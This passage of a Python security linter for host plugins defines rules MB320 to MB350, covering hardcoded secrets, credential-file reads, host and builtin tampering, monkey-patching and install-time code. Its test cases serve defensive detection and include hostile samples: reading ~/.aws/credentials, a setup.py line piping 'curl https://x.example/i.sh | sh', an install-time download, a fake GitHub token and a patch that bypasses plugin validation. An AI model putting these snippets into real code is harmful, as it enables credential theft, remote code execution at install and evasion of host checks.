                line=4),
        Invalid("import os\n\ndef creds():\n    return open(os.path.join(os.path.expanduser('~'), '.aws', "
                "'credentials')).read()\n", line=4),
    )

    def visit_Call(self, node: cst.Call) -> None:
        for path, access in self.accesses(node):
            if access == "read" and is_secret_file(path):
                self.report(node, f"reads the credential file `{path.display()}`")
                return


# --------------------------------------------------------------------------


class HardcodedSecret(SourceRule):
    """A credential is written in the source (a known token format, or a random-looking secret value).

    A random-looking value counts when it is assigned to a name such as `password`,
    `token`, `secret` or `api_key`. Known formats (AWS, GitHub, GitLab, Slack, Stripe, Google, PyPI, npm, private
    keys, ...) are errors; a high-entropy value of a secret-named variable, keyword
    argument, dictionary key or default value is a warning. Placeholders
    (`<token>`, `changeme`, `...EXAMPLE`) and low-entropy strings are ignored.
    Why: a published plugin publishes its secrets: anyone who installs (or
    unpacks) it can use the account the token belongs to.
    Instead: read credentials from the plugin's configuration or an environment
    variable; revoke the leaked one.
    """

    code = "MB320"
    name = "hardcoded-secret"
    category = Category.SECURITY
    severity = Severity.ERROR
    confidence = Confidence.HIGH
    VALID = (
        Valid("import os\nTOKEN = os.environ.get('HELLO_TOKEN', '')\nPASSWORD_FIELD = 'password'\n"),
        Valid("API_KEY = '<your-api-key>'\nAWS_EXAMPLE = 'AKIAIOSFODNN7EXAMPLE'\n"),
        Valid("def login(user, password='changeme'):\n    return user, password\n"),
    )
    INVALID = (
        Invalid("GITHUB = 'ghp_" + "Zk3vQ9LmX2pR7tW4yB8nC1dF6gH0jK5sT2uV'\n", line=1),
        Invalid("class Client:\n    api_key = 'q8Vz2LmPx7RtK4wN9bYc3HdF'\n", line=2),
        Invalid("def connect(client):\n    return client.login(password='Xk9#mP2vL8qR4tZw')\n", line=2),
    )

    def __init__(self, ctx: FileContext) -> None:
        super().__init__(ctx)
        self._reported: set[int] = set()

    def visit_SimpleString(self, node: cst.SimpleString) -> None:
        if not may_hold_secret(node.value):
            return  # the literal as written: a token is never made of escapes
        value = node.evaluated_value
        if isinstance(value, str):
            self._literal(node, value)

    def visit_FormattedStringText(self, node: cst.FormattedStringText) -> None:
        self._literal(node, node.value)

    def _literal(self, node: cst.CSTNode, value: str) -> None:
        if id(node) in self._reported:
            return
        match = find_secret(value)
        if match is None:
            return
        self._reported.add(id(node))
        self.report(node, f"hard-coded credential: {match.description}",
                    confidence=Confidence(match.confidence))

    def _named(self, name: str, value: cst.BaseExpression | None, node: cst.CSTNode) -> None:
        if value is None or not is_secret_name(name):
            return
        text = literal_string(value)
        if text is None or not looks_random(text) or find_secret(text) is not None:
            return
        self._reported.add(id(value))
        self.report(node, f"`{name}` is assigned a literal that looks like a credential",
                    severity=Severity.WARNING, confidence=Confidence.MEDIUM)

    def visit_Assign(self, node: cst.Assign) -> None:
        for target in node.targets:
            name = self._target_name(target.target)
            if name is not None:
                self._named(name, node.value, node)

    def visit_AnnAssign(self, node: cst.AnnAssign) -> None:
        name = self._target_name(node.target)
        if name is not None:
            self._named(name, node.value, node)

    def visit_Arg(self, node: cst.Arg) -> None:
        if node.keyword is not None:
            self._named(node.keyword.value, node.value, node)

    def visit_Param(self, node: cst.Param) -> None:
        if node.default is not None:
            self._named(node.name.value, node.default, node)

    def visit_DictElement(self, node: cst.DictElement) -> None:
        key = literal_string(node.key)
        if key is not None:
            self._named(key, node.value, node)

    @staticmethod
    def _target_name(target: cst.BaseExpression) -> str | None:
        if isinstance(target, cst.Name):
            return target.value
        if isinstance(target, cst.Attribute):
            return target.attr.value
        if isinstance(target, cst.Subscript) and len(target.slice) == 1 and isinstance(target.slice[0].slice, cst.Index):
            return literal_string(target.slice[0].slice.value)
        return None


# --------------------------------------------------------------------------
# Host tampering (MB340) and shared-module patches (MB341)

_IMPORT_SYSTEM = frozenset({"sys.meta_path", "sys.path_hooks", "sys.path_importer_cache", "sys.modules"})
_MUTATORS = frozenset({"insert", "append", "extend", "__setitem__", "update", "setdefault", "__init__"})
_TRACERS = frozenset({"sys.settrace", "sys.setprofile", "threading.settrace", "threading.setprofile",
                      "threading.settrace_all_threads", "threading.setprofile_all_threads"})


def _tampered(ctx: FileContext, name: str) -> str | None:
    """What assigning to ``name`` tampers with (the host, builtins, the import system), or None."""
    if plugin_internal(ctx, name):
        return None
    top = name.split(".", 1)[0]
    if top == "milkbottle":
        return f"the host's `{name}`"
    if top == "builtins":
        return f"the builtin `{name.removeprefix('builtins.')}` (for the host and every plugin)"
    for system in _IMPORT_SYSTEM:
        if name == system or name.startswith(system + "."):
            return f"the import system (`{system}`)"
    return None


class HostTampering(SourceRule):
    """Changes the host or the interpreter it runs in: `milkbottle.*`, builtins, imports, audit hooks.

    Assigning into `milkbottle` modules or classes, into `builtins`
    (`builtins.open = ...`, `__builtins__['print'] = ...`, `setattr(builtins, ...)`),
    into `sys.modules`, `sys.meta_path`, `sys.path_hooks` or
    `sys.path_importer_cache` (assignment, `insert`/`append`/`update`), and installing
    audit hooks (`sys.addaudithook`, an error) or trace/profile hooks (`sys.settrace`,
    a warning).
    Why: a plugin runs inside the host's process. Replacing the host's functions
    or builtins, intercepting imports or hooking audit events lets it change what
    the host and every other plugin do, and hide from the host's own checks; an
    audit hook cannot be removed once installed.
    Instead: use the host's public API (`milkbottle.plugin_system`); keep changes
    inside the plugin's own objects.
    """

    code = "MB340"
    name = "host-tampering"
    category = Category.SECURITY
    severity = Severity.ERROR
    confidence = Confidence.HIGH
    VALID = (
        Valid("import sys\n\ndef version():\n    return sys.version_info[:2]\n"),
        Valid("from milkbottle.plugin_system import PluginInterface\n\nclass P(PluginInterface):\n"
              "    name = 'p'\n"),
    )
    INVALID = (
        Invalid("import milkbottle.plugin_system.core as core\ncore.PluginManager.validate = lambda *a: True\n",
                line=2),
        Invalid("import builtins\n\ndef patch(hook):\n    builtins.__import__ = hook\n", line=4),
        Invalid("import sys\n\nclass Finder:\n    pass\n\nsys.meta_path.insert(0, Finder())\n", line=6),
        Invalid("import sys\nsys.modules['requests'] = object()\n", line=2),
        Invalid("import sys\nsys.addaudithook(lambda event, args: None)\n", line=2),
        Invalid("def hide():\n    __builtins__['open'] = None\n", line=2),
    )

    def visit_Assign(self, node: cst.Assign) -> None:
        for target in node.targets:
            self._target(target.target)

    def visit_AugAssign(self, node: cst.AugAssign) -> None:
        self._target(node.target)

    def visit_AnnAssign(self, node: cst.AnnAssign) -> None:
        if node.value is not None:
            self._target(node.target)

    def _target(self, target: cst.BaseExpression) -> None:
        name: str | None = None
        if isinstance(target, cst.Attribute):
            name = resolve(self.ctx, target)
        elif isinstance(target, cst.Subscript):
            base = resolve(self.ctx, target.value)
            if base in ("builtins", "builtins.__dict__"):
                name = resolve(self.ctx, target) or "builtins.__dict__"
            elif base == "sys.modules" and self._own_entry(target):
                return
            elif base is not None:
                name = base
        elif isinstance(target, (cst.Tuple, cst.List)):
            for element in target.elements:
                self._target(element.value)
            return
        if name is None:
            return
        what = _tampered(self.ctx, name)
        if what is not None:
            self.report(target, f"replaces {what}")

    def _own_entry(self, target: cst.Subscript) -> bool:
        """``sys.modules[__name__] = ...``: a module replacing itself (lazy loading), or a plugin module."""
        if len(target.slice) != 1 or not isinstance(target.slice[0].slice, cst.Index):
            return False
        key = target.slice[0].slice.value
        if isinstance(key, cst.Name) and key.value == "__name__":
            return self.ctx.names.lookup("__name__") in (None, "builtins.__name__")
        text = fold_string(self.ctx, key)
        return text is not None and plugin_internal(self.ctx, text)

    def visit_Call(self, node: cst.Call) -> None:
        name = resolve(self.ctx, node.func)
        if name is None:
            return
        if name in ("builtins.setattr", "builtins.delattr") and len(node.args) >= 2:
            base = resolve(self.ctx, node.args[0].value)
            if base is None:
                return
            attr = fold_string(self.ctx, node.args[1].value)
            what = _tampered(self.ctx, f"{base}.{attr}" if attr else base)
            if what is not None:
                self.report(node, f"`{_short(name)}` changes {what}")
            return
        if name == "sys.addaudithook":
            self.report(node, "installs an audit hook: it sees every audited event of the host and cannot be removed")
            return
        if name in _TRACERS:
            self.report(node, f"`{name}` installs a hook that observes all of the host's code",
                        severity=Severity.WARNING)
            return
        owner, _, method = name.rpartition(".")
        if method in _MUTATORS and owner in _IMPORT_SYSTEM:
            self.report(node, f"changes the import system: `{owner}.{method}`")


class SharedModulePatch(SourceRule):
    """Monkey-patches a module or class the plugin imports (`requests.Session.request = ...`).

    Assignment to an attribute of an imported module or class, or `setattr` on one;
    the host itself, builtins and the import system are MB340. Of `sys`, only the
    hooks (`sys.excepthook`, `sys.displayhook`, ...) and `sys.path` count:
    redirecting `sys.stdout` and the like is routine in command-line code.
    Why: the host and every plugin share one interpreter: the patch changes the
    library for all of them, often in ways they cannot detect (logging,
    networking, serialisation).
    Instead: wrap or subclass the library object inside the plugin, or pass
    options per call.
    """

    code = "MB341"
    name = "shared-module-patch"
    category = Category.SECURITY
    severity = Severity.WARNING
    confidence = Confidence.MEDIUM
    VALID = (
        Valid("import requests\n\nclass Session(requests.Session):\n    timeout = 10\n"),
        Valid("from . import settings\nsettings.DEBUG = True\n", path="cli.py",
              files={"__init__.py": "", "settings.py": "DEBUG = False\n"}),
    )
    INVALID = (
        Invalid("import requests\n\ndef spy(*args, **kwargs):\n    return None\n\n"
                "requests.Session.request = spy\n", line=6),
        Invalid("import json\nsetattr(json, 'dumps', repr)\n", line=2),
    )

    def visit_Assign(self, node: cst.Assign) -> None:
        for target in node.targets:
            self._target(target.target)

    def visit_AugAssign(self, node: cst.AugAssign) -> None:
        self._target(node.target)

    def visit_AnnAssign(self, node: cst.AnnAssign) -> None:
        if node.value is not None:
            self._target(node.target)

    def _target(self, target: cst.BaseExpression) -> None:
        if isinstance(target, (cst.Tuple, cst.List)):
            for element in target.elements:
                self._target(element.value)
            return
        if not isinstance(target, cst.Attribute):
            return
        base = resolve(self.ctx, target.value)
        if base is None:
            return
        self._check(target, f"{base}.{target.attr.value}")

    def _check(self, node: cst.CSTNode, name: str) -> None:
        if plugin_internal(self.ctx, name) or _tampered(self.ctx, name) is not None:
            return
        if name.startswith(self.ctx.module_name + ".") or name == "ssl._create_default_https_context":
            return
        if name.startswith("__main__."):
            return
        if name.startswith("sys.") and not (name.endswith("hook") or name == "sys.path"):
            return  # interpreter state (sys.stdout, sys.last_value, ...): routine in command-line code
        self.report(node, f"patches `{name}`, shared with the host and every other plugin")

    def visit_Call(self, node: cst.Call) -> None:
        if resolve(self.ctx, node.func) not in ("builtins.setattr", "builtins.delattr") or len(node.args) < 2:
            return
        base = resolve(self.ctx, node.args[0].value)
        if base is None:
            return
        attr = fold_string(self.ctx, node.args[1].value)
        self._check(node, f"{base}.{attr}" if attr else base)


# --------------------------------------------------------------------------

_SETUP_CALLS = frozenset({"setuptools.setup", "distutils.core.setup"})
_COMMAND_BASES = ("setuptools.command.", "distutils.command.", "setuptools.Command", "distutils.cmd.Command",
                  "wheel.bdist_wheel.", "setuptools.command")


class InstallTimeCode(SourceRule):
    """`setup.py` runs commands, downloads, or replaces setuptools commands (`cmdclass`).

    Reported in a `setup.py` at the root of a plugin or bottle distribution:
    subprocess and shell calls, network access, `cmdclass=` in `setup()`, and
    classes derived from setuptools/distutils commands.
    Why: `pip install` runs `setup.py` with the installing user's rights before
    anyone has looked at the result, and before MilkBottle's loader ever sees the
    plugin: install-time code escapes every load-time check.
    Instead: a declarative `pyproject.toml` (`[project]` metadata, a standard build
    backend); generate files at build time in CI, not on the user's machine.
    """

    code = "MB350"
    name = "install-time-code"
    category = Category.SECURITY
    severity = Severity.ERROR
    confidence = Confidence.HIGH
    VALID = (
        Valid("from setuptools import setup\n\nsetup(name='hello', version='1.0', packages=['hello'])\n",
              path="setup.py"),
    )
    INVALID = (
        Invalid("import os\nfrom setuptools import setup\nos.system('curl https://x.example/i.sh | sh')\n"
                "setup(name='x')\n", path="setup.py", line=3),
        Invalid("from setuptools import setup\nfrom setuptools.command.install import install\n\n"
                "class Hook(install):\n    def run(self):\n        install.run(self)\n\n"
                "setup(name='x', cmdclass={'install': Hook})\n", path="setup.py", line=4),
        Invalid("import urllib.request\nurllib.request.urlretrieve('https://x.example/blob', 'blob')\n",
                path="setup.py", line=2),
    )

    def __init__(self, ctx: FileContext) -> None:
        super().__init__(ctx)
        self.active = ctx.path == "setup.py"

    def visit_Call(self, node: cst.Call) -> None:
        if not self.active:
            return
        name = resolve(self.ctx, node.func)
        if name in _SETUP_CALLS and keyword_value(node, "cmdclass") is not None:
            self.report(node, "`setup(cmdclass=...)` replaces setuptools commands with code that runs at install time")
            return
        for use in classify_call(self.ctx, node, name):
            if use.permission == "subprocess":
                self.report(node, f"`{_short(use.via)}` runs a command when the distribution is installed")
                return
            if use.permission == "network":
                self.report(node, f"`{use.via}` uses the network when the distribution is installed")
                return

    def visit_ClassDef(self, node: cst.ClassDef) -> None:
        if not self.active:
            return
        for base in node.bases:
            name = resolve(self.ctx, base.value)
            if name is not None and name.startswith(_COMMAND_BASES):
                self.report(node, f"`{node.name.value}` overrides the setuptools command `{name}` "
                            "(runs at install time)")
                return


__all__ = [
    "ComputedImport",
    "CredentialFileRead",
    "DecodedCodeExecution",
    "DynamicCodeExecution",
    "HardcodedSecret",
    "HostTampering",
    "InsecureTempFile",
    "InstallTimeCode",
    "NetworkCallWithoutTimeout",
    "SensitivePathWrite",
    "SharedModulePatch",
    "ShellCommand",
    "TlsVerificationDisabled",
    "UnsafeDeserialisation",
    "path_accesses",
]
